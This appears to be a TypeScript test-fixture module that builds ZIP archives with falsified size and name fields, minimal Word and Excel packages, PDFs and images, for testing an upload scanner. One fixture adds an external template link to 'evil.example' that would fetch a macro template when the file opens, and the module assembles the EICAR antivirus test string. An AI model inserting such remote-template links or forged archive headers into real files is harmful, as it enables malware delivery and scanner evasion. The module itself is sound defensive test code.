import { crc32, deflateRawSync } from 'node:zlib'
import sharp from 'sharp'
import { simplePdf } from '@/lib/simple-pdf'

/** Files for tests, made of nothing but these lines. */

type Part = {
  name: string
  content?: string | Buffer
  /** Lies that a sender can tell in the list of an archive. */
  saidSize?: number
  saidPacked?: number
  localName?: string
  flags?: number
}

export function anArchive(parts: readonly Part[], { before = '', after = '' } = {}) {
  const written: Buffer[] = [Buffer.from(before, 'latin1')]
  const listed: Buffer[] = []
  let at = before.length
  for (const part of parts) {
    const content = Buffer.from(part.content ?? '')
    const packed = deflateRawSync(content)
    const head = (name: string) => {
      const fields = Buffer.alloc(26)
      fields.writeUInt16LE(20, 0)
      fields.writeUInt16LE(part.flags ?? 0, 2)
      fields.writeUInt16LE(8, 4)
      fields.writeUInt32LE(crc32(content), 10)
      fields.writeUInt32LE(part.saidPacked ?? packed.length, 14)
      fields.writeUInt32LE(part.saidSize ?? content.length, 18)
      fields.writeUInt16LE(Buffer.byteLength(name), 22)
      return fields
    }
    const local = part.localName ?? part.name
    const entry = Buffer.concat([Buffer.from('PK\x03\x04'), head(local), Buffer.from(local), packed])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(at, 10)
    listed.push(Buffer.from('PK\x01\x02\x14\x00'), head(part.name), place, Buffer.from(part.name))
    written.push(entry)
    at += entry.length
  }
  const list = Buffer.concat(listed)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(parts.length, 4)
  end.writeUInt16LE(parts.length, 6)
  end.writeUInt32LE(list.length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...written, list, Buffer.from('PK\x05\x06'), end, Buffer.from(after, 'latin1')])
}

const typesOf = (main: string, kind: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="${kind}"/></Types>`
const relations = (one = '') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${one}</Relationships>`

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'

export const wordParts = (more: readonly Part[] = [], kind = WORD): Part[] => [
  { name: '[Content_Types].xml', content: typesOf('word/document.xml', kind) },
  { name: '_rels/.rels', content: relations() },
  { name: 'word/document.xml', content: '<w:document/>' },
  ...more,
]
export const sheetParts = (more: readonly Part[] = [], kind = SHEET): Part[] => [
  { name: '[Content_Types].xml', content: typesOf('xl/workbook.xml', kind) },
  { name: '_rels/.rels', content: relations() },
  { name: 'xl/workbook.xml', content: '<workbook/>' },
  ...more,
]
export const externalTemplate: Part = {
  name: 'word/_rels/settings.xml.rels',
  content: relations(
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
  ),
}
export const externalLink: Part = {
  name: 'word/_rels/document.xml.rels',
  content: relations(
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>',
  ),
}

export const aPdf = (text = 'A paper') => simplePdf([[text]])
export const aPicture = (format: 'png' | 'jpeg' | 'webp') =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#246' } })
    .toFormat(format)
    .toBuffer()

/** The harmless file that every scanner takes for a virus; put together here so that no scanner stops at this source. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
